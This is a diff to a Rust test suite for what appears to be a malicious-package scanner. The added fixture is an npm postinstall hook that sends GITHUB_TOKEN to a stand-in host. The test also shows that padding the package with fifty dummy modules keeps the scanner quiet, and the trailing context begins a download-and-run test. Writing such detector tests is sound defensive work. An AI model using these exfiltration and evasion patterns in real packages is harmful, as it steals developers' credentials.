@@ -203,6 +203,39 @@ fn hidden_names_are_found() {
 }
 
 #[test]
+fn an_install_script_that_loads_much_runs_little_of_it() {
+    let tool = "exports.send = () => fetch('https://api.example', { headers: { a: process.env.GITHUB_TOKEN } })";
+    let mut files = vec![
+        (
+            "package.json".to_owned(),
+            r#"{"scripts":{"postinstall":"node setup.js"}}"#.to_owned(),
+        ),
+        ("tool.js".to_owned(), tool.to_owned()),
+    ];
+    let mut setup = "require('./tool');".to_owned();
+    for at in 0..50 {
+        setup.push_str(&format!("require('./part{at}');"));
+        files.push((format!("part{at}.js"), format!("exports.x = {at}")));
+    }
+    let small = [
+        ("package.json", &*files[0].1),
+        ("setup.js", "require('./tool').send()"),
+        ("tool.js", tool),
+    ];
+    finds(
+        &package(&small),
+        "js-exfiltrate-environment",
+        Severity::High,
+    );
+    files.push(("setup.js".to_owned(), setup));
+    let files: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(path, text)| (&**path, &**text))
+        .collect();
+    quiet(&package(&files));
+}
+
+#[test]
 fn files_that_are_downloaded_and_run_are_found() {
     let pipe = "const https = require('https'), fs = require('fs'), cp = require('child_process');\n\
         const out = require('path').join(require('os').tmpdir(), 'a.exe');\n\
